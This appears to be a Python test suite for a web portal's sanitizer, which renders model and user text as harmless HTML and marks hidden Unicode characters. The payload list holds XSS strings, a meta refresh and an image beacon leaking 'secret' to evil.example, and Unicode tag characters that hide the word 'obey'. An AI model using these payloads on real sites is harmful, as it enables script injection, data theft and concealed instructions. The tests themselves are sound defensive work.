"""What models and users wrote becomes harmless HTML in which nothing is hidden."""

import json
import re
import unicodedata
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from hypothesis import given, settings
from hypothesis import strategies as st

from portal import hidden, json_rendering, rendering

ALLOWED_TAGS = {
    *(
        "div",
        "p",
        "br",
        "hr",
        "em",
        "strong",
        "s",
        "del",
        "code",
        "pre",
        "span",
        "ul",
        "ol",
        "li",
        "blockquote",
    ),
    *("h1", "h2", "h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td"),
    *("details", "summary", "bdi", "wbr"),
}
ALLOWED_ATTRIBUTES = {"class", "dir", "tabindex", "href", "rel", "target", "start", "title", "open"}
# Shown by every font, though Unicode calls them format characters.
VISIBLE = {*range(0x0600, 0x0606), 0x06DD, 0x070F, 0x0890, 0x0891, 0x08E2, 0x110BD, 0x110CD}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><use href='/x'></svg>",
    "<b hx-get='/admin/' hx-trigger='load'>x</b>",
    "<p data-hx-post='/x' data-confirm='x'>x</p>",
    "<div hx-swap-oob='true' id='drawer'>x</div>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=/delete><button>x</button></form>",
    "<style>*{display:none}</style><title>x</title>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](/admin/logout)",
    "[x](//evil.example/path)",
    "[x](#drawer)",
    '[x](https://ok.example/" onclick="alert(1))',
    "![x](https://evil.example/beacon.png?q=secret)",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](https://evil.example/a.png)',
    '```" onclick="alert(1)\nx\n```',
    "```python class=drawer data-copy=x\nx\n```",
    "<https://ok.example/<script>>",
    "&lt;script&gt;&#60;img src=x&#62;",
    "| <td onclick=x> | `<b>` |\n|--|--|\n| <hr id=x> | [x](/y) |",
    "> " * 500 + "<i>",
    "\x00<\x00script>",
    "{{ request.user }}{% load portal %}",
]


class Seen(HTMLParser):
    """Every tag and attribute in a piece of HTML, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    seen = Seen(html)
    assert seen.tags <= ALLOWED_TAGS
    for tag, name, value in seen.attributes:
        assert name in ALLOWED_ATTRIBUTES, (tag, name, value)
        if name == "href":
            assert value.startswith(("http://", "https://", "mailto:")), value


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "render",
    [rendering.rich, rendering.plain, rendering.line, json_rendering.json_tree, json_rendering.json_text],
)
def test_no_payload_becomes_markup(payload: str, render: rendering.Render) -> None:
    assert_harmless(render(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_inside_json_stays_text(payload: str) -> None:
    value = {payload: [payload, {"deep": payload}]}
    for html in (json_rendering.json_tree(value), json_rendering.json_text(value)):
        assert_harmless(html)


@settings(deadline=None)
@given(st.text())
def test_any_text_renders_harmlessly(text: str) -> None:
    for render in (rendering.rich, rendering.plain, rendering.line, json_rendering.json_tree):
        assert_harmless(render(text))


@settings(deadline=None)
@given(st.text(alphabet="[]()<>*_`|>#-!&;\n\\\"' abchtps:/.\u202e\u200d😀", max_size=200))
def test_any_markdown_renders_harmlessly(text: str) -> None:
    assert_harmless(rendering.rich(text))


@settings(deadline=None)
@given(st.text(alphabet="ab 1.)-+=#>|!'\"(:/é\u00a0\u200b", max_size=60))
def test_an_ordinary_line_is_the_paragraph_that_markdown_would_make(text: str) -> None:
    ordinary, parsed = Seen(rendering.rich("a" + text)), Seen(rendering.rich("a" + text + " **b**"))
    assert ordinary.tags <= parsed.tags
    assert ordinary.text.strip() == ("a" + text).replace("\u200b", "⟦U+200B⟧").rstrip()


def test_markdown_is_rendered() -> None:
    html = rendering.rich("# Title\n\n**bold** `code`\n\n1. one\n\n| a | b |\n|--|--|\n| 1 | 2 |")
    assert {"h1", "strong", "code", "ol", "table"} <= Seen(html).tags


def test_code_is_coloured_by_class_and_never_by_style() -> None:
    html = rendering.rich("```python\ndef double(x): return 2 * x\n```")
    assert '<span class="k">def</span>' in html
    assert "style" not in html


def test_a_link_opens_apart_and_shows_where_it_leads() -> None:
    html = rendering.rich("[your bank](https://evil.example/login)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html
    assert "(evil.example)" in Seen(html).text


def test_a_link_says_its_real_host_even_with_a_name_before_the_at_sign() -> None:
    assert "(evil.example)" in Seen(rendering.rich("[x](https://bank.example@evil.example/)")).text


def test_an_image_becomes_a_link_that_shows_its_host() -> None:
    html = rendering.rich("![a chart](https://pictures.example/a.png)")
    assert "img" not in Seen(html).tags
    assert "a chart (image on pictures.example)" in Seen(html).text


@pytest.mark.parametrize("long", ["word " * 20_000, "| a " * 2_001], ids=["long text", "many pipes"])
def test_text_that_would_take_long_is_shown_plain(long: str) -> None:
    html = rendering.rich(long)
    assert Seen(html).tags == {"pre", "p"}
    assert "without formatting" in html


def test_a_huge_text_is_cut_and_says_how_much_is_missing() -> None:
    html = rendering.plain("x" * (rendering.PLAIN_CHARACTERS + 1_234))
    assert "1,234 more characters" in html


def test_a_line_is_one_short_line() -> None:
    assert Seen(rendering.line("  two\n\n lines ")).text == "two lines"
    assert len(Seen(rendering.line("x" * 5_000, 40)).text) == 40


# Hidden characters


def invisible() -> list[int]:
    points = [
        point
        for point in range(0x110000)
        if unicodedata.category(chr(point)) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
        and chr(point) not in "\n\t\u200c\u200d"
        and point not in VISIBLE
    ]
    assert len(points) > 2_000
    return points


def test_every_control_and_format_character_counts_as_hidden() -> None:
    missed = [f"{point:X}" for point in invisible() if hidden.count_hidden(f"a{chr(point)}b") != 1]
    assert missed == []


@pytest.mark.parametrize(
    "render", [rendering.rich, rendering.plain, rendering.line, json_rendering.json_tree]
)
def test_hidden_characters_are_shown_as_chips(render: rendering.Render) -> None:
    for point in (0x202E, 0x200B, 0x1B, 0xFEFF, 0xD800):
        html = render(f"a{chr(point)}b")
        assert f"⟦U+{point:04X}⟧" in html
        assert chr(point) not in html


def test_smuggled_tag_characters_are_named() -> None:
    smuggled = "".join(chr(0xE0000 + ord(letter)) for letter in "obey")
    text = Seen(rendering.rich(f"Hello{smuggled}")).text
    assert text.strip() == "Hello⟦U+E006F⟧⟦U+E0062⟧⟦U+E0065⟧⟦U+E0079⟧"


def test_hidden_characters_in_code_are_shown_as_chips() -> None:
    assert 'class="hidden-char"' in rendering.rich("```python\nif admin\u202e: pass\n```")
    assert 'class="hidden-char"' in rendering.rich("`a\u200bb`")


@pytest.mark.parametrize(
    "text",
    [
        "👩\u200d💻 ❤\ufe0f 🏳\ufe0f\u200d🌈",
        "\u0645\u06cc\u200c\u062e\u0648",
        "क्\u200dष",
        "tabs\tand\nlines",
        "naïve \u2013 “x”",
    ],
)
def test_honest_text_has_nothing_hidden(text: str) -> None:
    assert hidden.count_hidden(text) == 0


@pytest.mark.parametrize("text", ["pass\u200dword", "pass\u200cword", "end\u200d", "\u200dstart"])
def test_a_joiner_between_plain_letters_is_hidden(text: str) -> None:
    assert hidden.count_hidden(text) == 1


@pytest.mark.parametrize("render", [rendering.rich, rendering.plain, json_rendering.json_tree])
def test_what_does_not_break_is_marked_and_kept(render: rendering.Render) -> None:
    for character in "\u00a0\u202f\u2011\u2007":
        html = render(f"**a**{character}b")
        assert 'class="fixed-char"' in html
        assert f"{character}b" in Seen(html).text
    assert rendering.plain("\u00a0" * 100_000).count("<span") == hidden.MOST_MARKS


def test_a_run_of_one_hidden_character_is_one_chip() -> None:
    html = rendering.plain("a" + "\u200b" * 300 + "b")
    assert Seen(html).text == "a⟦U+200B⟧ 300 timesb"


def test_private_characters_cannot_pretend_to_be_a_chip() -> None:
    html = rendering.rich(f"x{chr(0x100000 + 0x202E)}y")
    assert "hidden-char" not in html
    assert "⟦U+10202E⟧" in html


def test_a_name_with_hidden_characters_is_spelled_out() -> None:
    assert hidden.name("in\u202evoice.pdf") == "in⟦U+202E⟧voice.pdf"


def test_a_title_gets_words_without_markup() -> None:
    template = Template("{% load portal %}<title>{{ text|spelled:12 }}</title><pre>{{ text|shown }}</pre>")
    html = template.render(Context({"text": "<b>\u202e\n and more words"}))
    assert "<title>&lt;b&gt;⟦U+202E⟧ </title>" in html.replace("…", " ").replace("  ", " ")
    assert Seen(html).tags == {"title", "pre", "span"}


@pytest.mark.parametrize("name", ["rich", "plain", "line", "shown", "spelled"])
def test_a_filter_shows_numbers_and_nothing_too(name: str) -> None:
    template = Template("{% load portal %}{{ number|" + name + " }}{{ nothing|" + name + " }}")
    assert Seen(template.render(Context({"number": 412, "nothing": None}))).text.strip() == "412"


# JSON


def test_json_becomes_a_tree() -> None:
    seen = Seen(json_rendering.json_tree('{"city": "Oslo", "days": [1, 2], "exact": true, "note": null}'))
    assert {"details", "summary"} <= seen.tags
    assert 'city: "Oslo"' in seen.text
    assert "[2]" in seen.text


def test_a_big_tree_stops_and_says_so() -> None:
    html = json_rendering.json_tree(list(range(json_rendering.TREE_NODES * 2)))
    assert html.count('class="row"') <= json_rendering.TREE_NODES
    assert "more, see the raw JSON" in html


def test_json_that_is_nested_too_deeply_is_shown_as_text() -> None:
    deep = "[" * 100_000 + "]" * 100_000
    assert Seen(json_rendering.json_tree(deep)).tags <= {"pre", "p", "wbr"}
    assert Seen(json_rendering.json_text(deep)).tags <= {"pre", "p", "wbr"}


@pytest.mark.parametrize(
    "shown", [rendering.plain, rendering.rich, json_rendering.json_text, json_rendering.json_tree]
)
def test_a_word_without_end_can_be_broken(shown: Callable[[str], str]) -> None:
    """Browsers need minutes to lay out a word of 100,000 characters."""
    html = shown("A" * 2_500)
    assert max(map(len, re.findall("A+", html))) <= 400
    assert Seen(html).text.count("A") == 2_500


def test_text_that_is_no_json_is_shown_as_it_is() -> None:
    assert Seen(json_rendering.json_tree('{"city": "Os')).text == '{"city": "Os'


@settings(deadline=None)
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
        max_leaves=20,
    )
)
def test_any_json_renders_harmlessly(value: object) -> None:
    assert_harmless(json_rendering.json_tree(value))
    assert_harmless(json_rendering.json_text(json.dumps(value)))
